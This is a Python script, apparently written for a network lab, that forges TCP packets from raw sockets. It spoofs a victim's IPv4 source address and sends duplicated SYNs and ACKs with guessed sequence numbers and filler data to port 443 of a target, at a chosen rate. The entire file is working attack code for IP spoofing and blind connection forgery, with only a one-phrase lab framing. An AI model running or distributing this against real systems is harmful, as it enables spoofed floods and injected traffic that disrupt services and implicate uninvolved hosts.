"""Runs on a host of the lab: ADDRESS VICTIM RATE SECONDS; prints how many packets it sent; ends by itself.

Sends TCP packets for port 443 of ADDRESS in the name of VICTIM, an IPv4 address: SYNs, each twice, and ACKs with
data that guess what the server answered. Their source ports are 10000 to 10999, so that the answers can be told from
those to the victim's own connections.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

PORTS = (10000, 10999)
MOST = 60_000
"""Packets that one run sends at most."""
SYN, ACK = 2, 16
DATA = bytes(200)


def packet(source: bytes, target: bytes, port: int, sequence: int, flags: int, data: bytes = b"") -> bytes:
    """Return an IPv4 packet with a TCP segment for port 443; the kernel adds the IP header's checksum."""
    length = 20 + len(data)
    header = struct.pack(">BBHHHBBH4s4s", 69, 0, 20 + length, random.getrandbits(16), 0, 64, 6, 0, source, target)
    guess = random.getrandbits(32) if flags == ACK else 0
    parts = (port, 443, sequence, guess, 5 << 4, flags, 64240)
    pseudo = source + target + struct.pack(">BBH", 0, 6, length) + struct.pack(">HHIIBBHHH", *parts, 0, 0) + data
    total = sum(struct.unpack(f">{len(pseudo) // 2}H", pseudo))
    total = (total & 0xFFFF) + (total >> 16)
    total += total >> 16
    return header + struct.pack(">HHIIBBHHH", *parts, ~total & 0xFFFF, 0) + data


def attempt(source: bytes, target: bytes) -> list[bytes]:
    """Return the packets of one forged connection: the SYN, the same again, and two guesses at the rest."""
    port, sequence = random.randint(*PORTS), random.getrandbits(32)
    begin = packet(source, target, port, sequence, SYN)
    return [begin, begin, *(packet(source, target, port, sequence + 1 & 0xFFFFFFFF, ACK, DATA) for _ in range(2))]


def forge(address: str, victim: str, rate: float, seconds: float) -> int:
    """Send packets at a steady rate (a second); return how many."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    source, target = socket.inet_aton(victim), socket.inet_aton(address)
    begun, sent = time.monotonic(), 0
    while (passed := time.monotonic() - begun) < seconds and sent < MOST:
        while sent < min(passed * rate, MOST):
            for each in attempt(source, target):
                raw.sendto(each, (address, 0))
                sent += 1
        time.sleep(0.005)
    return sent


if __name__ == "__main__":
    print(forge(sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])))
